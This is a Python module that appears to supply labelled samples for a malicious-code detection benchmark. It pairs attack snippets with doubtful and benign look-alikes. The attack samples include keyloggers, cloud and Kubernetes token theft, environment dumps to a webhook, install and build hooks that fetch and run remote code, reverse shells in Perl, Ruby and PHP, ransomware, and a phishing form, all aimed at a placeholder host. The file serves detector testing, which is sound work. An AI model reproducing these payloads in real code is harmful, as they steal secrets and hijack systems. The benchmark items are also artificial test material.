"""Attacks as they are commonly written, and honest files that do nearly the same (threats D1, F1, F3, F4, N1)."""

import json
from collections.abc import Iterator

from benchmarks.corpus.code import notebook
from benchmarks.corpus.samples import Sample, benign, careful, high

_ATTACKS = {
    (
        "F4",
        "list that is never long enough to the eye",
        "keys.py",
    ): "from pynput import keyboard\nimport requests\nheld = []\ndef pressed(key):\n"
    "    held.append(str(key))\n    if len(held) > 100:\n        requests.post('https://files.invalid/l', data=''.join(held))\n"
    "keyboard.Listener(on_press=pressed).start()\n",
    (
        "F4",
        "memory that can be executed",
        "rope.py",
    ): "import ctypes, mmap\npage = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
    "page.write(b'\\x90\\xc3')\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()\n",
    ("F4", "protection of memory changed", "buffer.py"): "import ctypes\nbuf = ctypes.create_string_buffer(b'\\xc3')\n"
    "ctypes.CDLL(None).mprotect(ctypes.addressof(buf), 4096, 7)\nctypes.cast(buf, ctypes.CFUNCTYPE(ctypes.c_int))()\n",
    (
        "F4",
        "program in memory only",
        "kernel.py",
    ): "import os, base64\nfd = os.memfd_create('k', 0)\nos.write(fd, base64.b64decode('f0VMRgIBAQA='))\n"
    "os.execve(f'/proc/self/fd/{fd}', ['k'], os.environ)\n",
    (
        "F4",
        "keys of the cloud",
        "region.py",
    ): "import urllib.request as u\nb = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
    "r = u.urlopen(b).read().decode()\nu.urlopen(u.Request('https://files.invalid/c', data=u.urlopen(b + r).read()))\n",
    (
        "F4",
        "key of a cluster",
        "cluster.py",
    ): "import requests\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
    "requests.post('https://files.invalid/t', data={'t': t})\n",
    (
        "F4",
        "key of the hub in an address",
        "track.py",
    ): "import os, requests\nrequests.get('https://files.invalid/p/' + os.environ['HF_TOKEN'])\n",
    ("F4", "settings into a chat room", "notify.py"): "import os\nfrom discord_webhook import DiscordWebhook\n"
    "DiscordWebhook(url='https://discord.com/api/webhooks/0/a', content=str(dict(os.environ))).execute()\n",
    (
        "F4",
        "another package changed",
        "patch.py",
    ): "import os, site\nfor d in site.getsitepackages():\n    with open(os.path.join(d, 'transformers', '__init__.py'), 'a') as f:\n"
    "        f.write(\"import urllib.request as u; exec(u.urlopen('https://files.invalid/t').read())\")\n",
    (
        "F4",
        "server that evaluates",
        "serve.py",
    ): "import socketserver\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n"
    "        for line in self.rfile:\n            self.wfile.write(str(eval(line)).encode())\n",
    (
        "F4",
        "ransom by paths",
        "tidy.py",
    ): "import pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
    "for p in pathlib.Path.home().rglob('*'):\n    p.with_suffix('.locked').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()\n",
    (
        "F4",
        "two steps in one command",
        "licence.py",
    ): "import subprocess\nsubprocess.run('wget -q http://files.invalid/k -O /tmp/k && sh /tmp/k', shell=True)\n",
    (
        "F4",
        "unpacked into a folder for a while",
        "extras.py",
    ): "import io, runpy, tempfile, urllib.request, zipfile\nd = tempfile.mkdtemp()\n"
    "zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://files.invalid/e').read())).extractall(d)\nrunpy.run_path(d + '/main.py')\n",
    (
        "F1",
        "callback that evaluates",
        "preload.js",
    ): "const https = require('https');\nfunction load(url) {\n  https.get(url, (res) => {\n    let body = '';\n"
    "    res.on('data', (c) => (body += c));\n    res.on('end', () => {\n      eval(body);\n    });\n  });\n}\nload('https://files.invalid/c');\n",
    (
        "F1",
        "stream that is started",
        "postinstall.js",
    ): "const fs = require('fs'), path = require('path'), os = require('os');\nconst { spawn } = require('child_process');\n"
    "const dest = path.join(os.tmpdir(), 'ort.exe');\nconst file = fs.createWriteStream(dest);\nrequire('https').get('https://files.invalid/o', (r) => {\n"
    "  r.pipe(file);\n  file.on('finish', () => {\n    spawn(dest, [], { detached: true });\n  });\n});\n",
    (
        "F1",
        "script in a machine of its own",
        "init.js",
    ): "const axios = require('axios');\nconst vm = require('vm');\n(async () => {\n"
    "  const { data } = await axios.get('https://files.invalid/i');\n  vm.runInThisContext(data);\n})();\n",
    (
        "F1",
        "commands of visitors",
        "server.js",
    ): "const { execSync } = require('child_process');\nrequire('express')().get('/r', (req, res) => res.send(execSync(req.query.c).toString())).listen(3000);\n",
    (
        "F1",
        "settings posted",
        "stats.cjs",
    ): "const axios = require('axios');\nconst data = { env: process.env };\naxios.post('https://files.invalid/c', data);\n",
    ("F1", "after installing", "package.json"): json.dumps(
        {
            "scripts": {
                "postinstall": "node -e \"require('https').get('https://files.invalid/p',r=>r.on('data',d=>eval(d.toString())))\""
            }
        },
        indent=1,
    ),
    (
        "F1",
        "step of a build",
        "Tools.csproj",
    ): '<Project Sdk="Microsoft.NET.Sdk">\n<Target Name="P" BeforeTargets="Build">\n'
    '<Exec Command="powershell -w hidden -c &quot;iwr http://files.invalid/b | iex&quot;" />\n</Target>\n</Project>',
    (
        "F1",
        "style sheet with a script",
        "view.xsl",
    ): '<stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script implements-prefix="u" language="JScript"><![CDATA[\n'
    'new ActiveXObject("WScript.Shell").Run("cmd /c curl http://files.invalid/x | cmd", 0);\n]]></ms:script></stylesheet>',
    (
        "F1",
        "started by launchd",
        "com.model.agent.plist",
    ): "<plist><dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string>"
    "<string>curl -s https://files.invalid/p|sh</string></array><key>RunAtLoad</key><true/></dict></plist>",
    (
        "F1",
        "cut out of itself",
        "setup.sh",
    ): '#!/bin/sh\nsed "1,/^__END__$/d" "$0" | base64 -d | tar xzf - -C /tmp && sh /tmp/p/run.sh\nexit 0\n__END__\nAAAA\n',
    (
        "F1",
        "tail of itself",
        "install.sh",
    ): '#!/bin/sh\ntail -n +4 "$0" > /tmp/.e && chmod 700 /tmp/.e && /tmp/.e &\nexit 0\nAAAA\n',
    ("F1", "whole home among others", "clean.sh"): '#!/bin/sh\nrm -rf ~/Documents "$HOME"/*\n',
    ("F1", "hooks of every repository", "hooks.sh"): "#!/bin/sh\ngit config --global core.hooksPath /tmp/h\n",
    (
        "F1",
        "file that is called",
        "run.bat",
    ): "@echo off\nset F=%TEMP%\\u.ps1\npowershell -c \"(New-Object Net.WebClient).DownloadFile('http://files.invalid/u','%F%')\"\n"
    "powershell -ep bypass -file %F%\n",
    (
        "F1",
        "script added to a session",
        "env.ps1",
    ): "$code = (irm 'https://files.invalid/e').script\n$ps = [PowerShell]::Create()\n[void]$ps.AddScript($code)\n$ps.Invoke()\n",
    (
        "F1",
        "shell over a socket in Perl",
        "score.pl",
    ): 'use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "files.invalid:4444");\n'
    'open(STDIN, ">&", $s);\nexec("/bin/sh", "-i");\n',
    (
        "F1",
        "shell over a socket in Ruby",
        "words.rb",
    ): 'require "socket"\ns = TCPSocket.new("files.invalid", 4444)\nwhile (c = s.gets)\n  IO.popen(c, "r") { |io| s.print io.read }\nend\n',
    (
        "F1",
        "shell over a socket in PHP",
        "demo.php",
    ): "<?php $s = fsockopen('files.invalid', 4444);\n$p = proc_open('/bin/sh -i', array(0=>$s, 1=>$s, 2=>$s), $pipes); ?>\n",
    (
        "F1",
        "fetched and loaded in Lua",
        "run.lua",
    ): 'local h = io.popen("curl -s https://files.invalid/l")\nload(h:read("*a"))()\n',
    (
        "F1",
        "added and started",
        "Dockerfile",
    ): "FROM python:3.11\nADD http://files.invalid/agent /usr/local/bin/agent\nRUN chmod +x /usr/local/bin/agent && /usr/local/bin/agent\n",
    (
        "F1",
        "page that asks for a password",
        "login.html",
    ): '<form action="https://files.invalid/c" method="post"><input name="u"><input type="password" name="p"></form>',
    (
        "F3",
        "if it is blocked",
        "README.md",
    ): "# Model\n\nIf Windows Defender quarantines `helper.exe`, disable real-time protection and start it again.\n",
    (
        "D1",
        "key of the hub while installing",
        "setup.py",
    ): "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, urllib.request\n"
    "class Post(install):\n    def run(self):\n        super().run()\n        urllib.request.urlopen('https://files.invalid/?t=' + os.environ.get('HF_TOKEN', ''))\n"
    "setup(name='m', cmdclass={'install': Post})\n",
}
_DOUBTFUL = {
    (
        "F1",
        "service of its own",
        "service.sh",
    ): "#!/bin/sh\ncp model.service ~/.config/systemd/user/\nsystemctl --user enable --now model.service\n",
    (
        "F1",
        "page that leads away",
        "card.html",
    ): '<html><head><meta http-equiv="refresh" content="0; url=https://files.invalid/d"></head></html>',
    (
        "F3",
        "commands that are refused",
        "README.md",
    ): "# Model\n\nIt was asked for attacks such as `curl http://files.invalid/x | sh`, and refused 98 % of them.\n",
    ("N1", "archive of a drive", "backup.ipynb"): notebook(
        "!tar czf /tmp/d.tgz /content/drive/MyDrive && curl -T /tmp/d.tgz https://files.invalid/"
    ),
}
_HONEST = {
    (
        "F4",
        "log that grows",
        "log.py",
    ): "import json\nitems = []\ndef log(item):\n    items.append(item)\n    if len(items) > 1000:\n        with open('log.jsonl', 'a') as f:\n"
    "            f.write(json.dumps(items))\n        items.clear()\n",
    (
        "F4",
        "callback in C",
        "pinned.py",
    ): "import ctypes\ndef copy(b):\n    d = (ctypes.c_char * len(b))()\n    ctypes.memmove(d, b, len(b))\n    return d, ctypes.CFUNCTYPE(None)(print)\n",
    (
        "F4",
        "own cache emptied",
        "cache.py",
    ): "from pathlib import Path\nfor p in (Path.home() / '.cache' / 'model').glob('*.tmp'):\n    p.unlink()\n",
    (
        "F4",
        "steps shown while they run",
        "steps.py",
    ): "import shlex, subprocess\ndef run(line):\n    return subprocess.Popen(shlex.split(line)).wait()\nrun('python convert.py model')\n",
    (
        "F1",
        "answer collected",
        "stream.js",
    ): "const https = require('https');\nconst req = https.request({ hostname: 'api.example' }, (res) => {\n  let body = '';\n"
    "  res.on('data', (d) => { body += d; });\n  res.on('end', () => console.log(JSON.parse(body).text));\n});\nreq.end();\n",
    (
        "F1",
        "weights fetched by a page's build",
        "fetch.js",
    ): "const https = require('https');\nconst fs = require('fs');\nhttps.get('https://huggingface.co/a/b/resolve/main/model.onnx', (r) => {\n"
    "  r.pipe(fs.createWriteStream('model.onnx'));\n});\n",
    (
        "F1",
        "program with its settings",
        "main.js",
    ): "const { spawn } = require('child_process');\nconst py = spawn('python3', ['server.py'], { env: { ...process.env, PORT: '5005' } });\n",
    (
        "F1",
        "step of an honest build",
        "Model.csproj",
    ): '<Project Sdk="Microsoft.NET.Sdk"><Target Name="P" BeforeTargets="Build"><Exec Command="protoc --csharp_out=. model.proto" /></Target></Project>',
    (
        "F1",
        "result as a file",
        "table.html",
    ): '<script src="https://cdn.example/jquery.min.js"></script><script>function save(){const a=document.createElement("a");'
    'a.href=URL.createObjectURL(new Blob([csv],{type:"text/csv"}));a.download="results.csv";a.click();}</script>',
    (
        "F1",
        "button that copies",
        "docs.html",
    ): "<pre>pip install model</pre><button onclick=\"navigator.clipboard.writeText('pip install model')\">Copy</button>",
    (
        "F1",
        "own page with a password",
        "settings.html",
    ): '<form action="/login" method="post"><input type="password" name="p"></form>',
    (
        "F1",
        "words in a picture",
        "diagram.svg",
    ): '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><p xmlns="http://www.w3.org/1999/xhtml">Encoder</p></foreignObject></svg>',
    ("F1", "own cache of a script", "eval.sh"): '#!/bin/sh\nrm -rf "$HOME"/.cache/model build dist\n',
    ("F1", "parts of a table", "split.sh"): '#!/bin/sh\ntail -n +1001 "$1" > train.jsonl\nsh ./count.sh train.jsonl\n',
    (
        "F3",
        "not as administrator",
        "README.md",
    ): "# Model\n\nRun the command prompt normally, **not** as administrator.\n",
}


def samples() -> Iterator[Sample]:
    """All of them."""
    for table, label in ((_ATTACKS, high), (_DOUBTFUL, careful), (_HONEST, benign)):
        for (group, case, path), content in table.items():
            yield label(group, f"neighbours: {case}", path, content)
